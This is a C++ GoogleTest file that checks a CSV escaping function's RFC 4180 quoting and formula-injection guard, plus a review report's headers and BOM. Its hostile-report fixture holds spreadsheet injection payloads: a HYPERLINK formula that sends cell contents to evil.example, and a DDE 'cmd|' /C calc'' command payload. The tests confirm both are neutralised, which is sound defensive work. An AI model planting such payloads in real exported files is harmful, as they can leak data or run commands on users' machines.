// csv_cell: the one CSV escaping (RFC 4180 + formula-injection guard), and the review CSV's
// headers, BOM and hostile notes.
#include "targetwatch/report/csv.h"

#include <gtest/gtest.h>

#include "sample_evaluation.h"
#include "targetwatch/report/review.h"

namespace targetwatch {
namespace {

using testing::day;
using testing::project;
using testing::record;
using testing::standard_plan;
using testing::targets_with;

TEST(CsvCell, PlainTextAndNumbersPassThrough) {
  EXPECT_EQ(csv_cell(""), "");
  EXPECT_EQ(csv_cell("法律援助"), "法律援助");
  EXPECT_EQ(csv_cell("12.5"), "12.5");
  EXPECT_EQ(csv_cell("-12.5"), "-12.5");  // a genuine negative number stays a number
  EXPECT_EQ(csv_cell("-0.0153"), "-0.0153");
  EXPECT_EQ(csv_cell("1e-05"), "1e-05");
  EXPECT_EQ(csv_cell("-3e+02"), "-3e+02");
}

TEST(CsvCell, FormulaStartsGetAnApostrophe) {
  EXPECT_EQ(csv_cell("=1+2"), "'=1+2");
  EXPECT_EQ(csv_cell("+86 10 1234"), "'+86 10 1234");
  EXPECT_EQ(csv_cell("+5"), "'+5");  // not how this program writes numbers: text
  EXPECT_EQ(csv_cell("-2+3"), "'-2+3");
  EXPECT_EQ(csv_cell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(csv_cell("\tx"), "'\tx");
  EXPECT_EQ(csv_cell("\r=1"), "\"'\r=1\"");  // guarded, then quoted for the CR
  EXPECT_EQ(csv_cell("- 见附件"), "'- 见附件");
  EXPECT_EQ(csv_cell("-"), "'-");
  // Only the first character matters.
  EXPECT_EQ(csv_cell("a=b"), "a=b");
}

TEST(CsvCell, QuotingFollowsRfc4180) {
  EXPECT_EQ(csv_cell("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_cell("line\nbreak"), "\"line\nbreak\"");
  EXPECT_EQ(csv_cell("=HYPERLINK(\"http://x\",\"y\")"),
            "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"");
}

TEST(CsvCell, IsPlainNumber) {
  EXPECT_TRUE(is_plain_number("0"));
  EXPECT_TRUE(is_plain_number("-1.5"));
  EXPECT_FALSE(is_plain_number(""));
  EXPECT_FALSE(is_plain_number("+1"));
  EXPECT_FALSE(is_plain_number("-1-1"));
  EXPECT_FALSE(is_plain_number(" 1"));
  EXPECT_FALSE(is_plain_number("0x10"));
}

ReviewReport hostile_report() {
  auto spend = record("P1", "spending", 30, "2025-06-30");
  spend.note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")";
  spend.measure = "@SUM(1+1)*cmd|' /C calc'!A0";
  spend.cause = "+1+1";
  auto ind = record("P1", "quantity-1", 100, "2025-06-30");
  ind.note = "-2+3";
  ind.likelihood = "\t=1";
  const Evaluation ev = evaluate(
      targets_with({project("P1", 100, standard_plan(),
                            {testing::indicator("quantity-1", Comparator::kGreaterEqual, 350)})}),
      ActualsIndex({spend, ind}), day("2025-06-30"));
  return build_review(ev, nullptr, nullptr, {});
}

TEST(ReviewCsv, HostileNotesNeverStartAFormula) {
  for (CsvHeaders headers : {CsvHeaders::kChinese, CsvHeaders::kEnglish}) {
    const std::string csv = render_review_csv(hostile_report(), headers);
    // Every field start: the beginning of a line or after a comma (outside quotes), and the first
    // character after an opening quote.
    bool quoted = false;
    bool field_start = true;
    for (std::size_t i = 0; i < csv.size(); ++i) {
      const char c = csv[i];
      if (field_start) {
        const char first = c == '"' && i + 1 < csv.size() ? csv[i + 1] : c;
        EXPECT_TRUE(first != '=' && first != '+' && first != '@' && first != '\t')
            << "a field starts with " << first << " at byte " << i;
        if (first == '-') {
          // A '-' start must be a number: up to the next separator only digits and . e -
          std::size_t j = i + (c == '"' ? 2 : 1);
          while (j < csv.size() && csv[j] != ',' && csv[j] != '\r' && csv[j] != '"') {
            EXPECT_NE(std::string("0123456789.e-+").find(csv[j]), std::string::npos)
                << "non-number after '-' at byte " << j;
            ++j;
          }
        }
      }
      field_start = false;
      if (c == '"') {
        quoted = !quoted;
      } else if (!quoted && (c == ',' || c == '\n')) {
        field_start = true;
      }
    }
    EXPECT_NE(csv.find("\"'=HYPERLINK("), std::string::npos);
    EXPECT_NE(csv.find("'@SUM(1+1)"), std::string::npos);
    EXPECT_NE(csv.find(",'-2+3,"), std::string::npos);
    EXPECT_NE(csv.find(",'+1+1,"), std::string::npos);
  }
}

TEST(ReviewCsv, ChineseHeadersWithABomByDefault) {
  const std::string csv = render_review_csv(hostile_report());
  ASSERT_GE(csv.size(), 3u);
  EXPECT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
  EXPECT_TRUE(csv.substr(3).starts_with("部门编码,部门名称,截至日期,行类型,项目编码,"))
      << csv.substr(0, 200);
  const std::string en = render_review_csv(hostile_report(), CsvHeaders::kEnglish);
  EXPECT_EQ(en.substr(0, en.find(',')), "department");
  // Same rows and columns either way: only the header line (and the BOM) differ.
  EXPECT_EQ(csv.substr(csv.find("\r\n")), en.substr(en.find("\r\n")));
  EXPECT_EQ(parse_csv_headers("zh"), CsvHeaders::kChinese);
  EXPECT_EQ(parse_csv_headers("en"), CsvHeaders::kEnglish);
  EXPECT_FALSE(parse_csv_headers("fr"));
}

}  // namespace
}  // namespace targetwatch
